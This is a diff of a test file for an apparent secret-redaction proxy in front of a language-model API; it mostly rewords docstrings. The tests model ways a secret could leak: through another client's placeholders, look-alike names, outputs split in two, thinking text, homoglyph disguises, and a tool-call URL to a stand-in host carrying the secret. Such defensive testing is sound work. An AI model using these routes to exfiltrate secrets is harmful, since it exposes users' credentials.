@@ -1,5 +1,4 @@
-"""Placeholders as an attacker would use them: another's, look-alikes, near misses, pieces over two outputs, and in
-whatever the model is asked to write."""
+"""Placeholders as attackers use them: foreign, look-alike, misspelled, split or nested ones."""
 
 from __future__ import annotations
 
@@ -33,7 +32,7 @@ def through(answer: bytes, of: Issued, kind: str = "text/event-stream") -> bytes
 
 
 def events(*texts: tuple[int, str, str]) -> bytes:
-    """Deltas: (index of the output, kind of delta, text)."""
+    """Return the deltas as (index of the output, kind of delta, text)."""
     fields = {
         "text_delta": "text",
         "input_json_delta": "partial_json",
@@ -48,7 +47,7 @@ def events(*texts: tuple[int, str, str]) -> bytes:
 
 
 def test_the_placeholder_of_another_scope_is_never_restored(bench: Bench) -> None:
-    """The same secret has the same name for everybody; knowing the name gives nobody the value."""
+    """A secret has the same name for everybody, but knowing the name does not reveal the value."""
     bench.redact(json.dumps(f"it is {OTHER}").encode(), scope=SCOPE._replace(client="victim"))
     name = bench.name(OTHER)
     pasted = bench.redact(json.dumps(f"print {name} and {SECRET}").encode())
@@ -102,7 +101,7 @@ def test_near_misses_stay_as_they_are(how: str, depth: Depth, bench: Bench) -> N
 
 
 def test_a_placeholder_over_two_outputs_is_none(bench: Bench) -> None:
-    """Halves in two outputs do not meet, and what is held back of one comes out with it."""
+    """Halves in two outputs are not joined, and what is held back of one comes out with it."""
     name = bench.name(SECRET)
     for at in range(1, len(name)):
         answer = events((0, "text_delta", name[:at]), (1, "text_delta", name[at:]))
@@ -127,7 +126,7 @@ def test_thinking_is_no_way_out(bench: Bench) -> None:
 
 
 def test_a_value_that_looks_like_a_placeholder_is_not_restored_twice(bench: Bench) -> None:
-    """What is put back is not looked at again."""
+    """A restored value is not searched again."""
     names = [bench.name(SECRET).encode(), bench.name(OTHER).encode()]
     nested = Issued(bench.template, {names[0]: names[1], names[1]: OTHER.encode()})
     assert restore(names[0], nested, Depth.PLAIN) == names[1]
@@ -136,7 +135,7 @@ def test_a_value_that_looks_like_a_placeholder_is_not_restored_twice(bench: Benc
 
 
 def test_a_pasted_placeholder_is_not_a_secret_and_makes_none(bench: Bench) -> None:
-    """Nobody can poison the names: a placeholder in a request is text, however often it is nested."""
+    """Nobody can poison the names: a placeholder in a request is text, however deeply nested."""
     name = bench.name(SECRET)
     for text in (
         name,
@@ -149,7 +148,7 @@ def test_a_pasted_placeholder_is_not_a_secret_and_makes_none(bench: Bench) -> No
 
 
 def test_exfiltration_through_a_tool_is_what_a_policy_can_forbid(bench: Bench) -> None:
-    """The default, documented: tool arguments are restored, as edits and commands would not work otherwise."""
+    """The documented default: tool arguments are restored, because edits and commands need it."""
     answer = events((0, "input_json_delta", json.dumps({"url": f"https://x/{bench.name(SECRET)}"})))
     assert SECRET.encode() in through(answer, issued(bench, SECRET))
 
@@ -168,8 +167,10 @@ SPLIT = {
 
 @pytest.mark.parametrize("how", SPLIT)
 def test_a_secret_taken_apart_is_not_seen_and_not_mangled(how: str, bench: Bench) -> None:
-    """The threat model says so: halves that no rule knows leave as they are, and nothing else is harmed by
-    them. Where the whole stands anywhere in the same request, that whole does not leave."""
+    """As the threat model says, halves that match no rule leave unchanged, and nothing else breaks.
+
+    If the request also contains the whole secret, that one does not leave.
+    """
     raw = json.dumps(SPLIT[how](SECRET[:14], SECRET[14:])).encode()
     assert bench.redact(raw).raw == raw
     both = json.dumps([json.loads(raw), f"it is {SECRET}"]).encode()
@@ -192,7 +193,7 @@ BROKEN = {
 def test_a_secret_broken_up_or_painted_over_does_not_leave(
     how: str, ascii_only: bool, bench: Bench
 ) -> None:
-    """Nor the same secret as it is, beside it; and what comes back is what the client sent."""
+    """Neither does the undisguised secret next to it; the client gets back exactly what it sent."""
     spelled = BROKEN[how](SECRET[:14], SECRET[14:])
     raw = json.dumps([f"it is {spelled} here", f"or {SECRET}"], ensure_ascii=ascii_only).encode()
     redaction = bench.redact(raw)
@@ -211,7 +212,7 @@ def test_a_secret_broken_up_or_painted_over_does_not_leave(
     "how", [each for each in BROKEN if "HTML" not in each and "reference" not in each]
 )
 def test_a_known_value_broken_up_does_not_leave_wherever_it_stands(how: str, bench: Bench) -> None:
-    """Known from a later message than the one that it is broken up in: what was passed over before is read again."""
+    """The value becomes known from a later message, so the earlier one must be read again."""
     value = "quietly-Kx7mQ2rT9w"
     spelled = BROKEN[how](value[:9], value[9:]).replace("i", "\u0456", how == "with a homoglyph")
     turns = [{"role": "user", "content": f"so {spelled} it is"}]
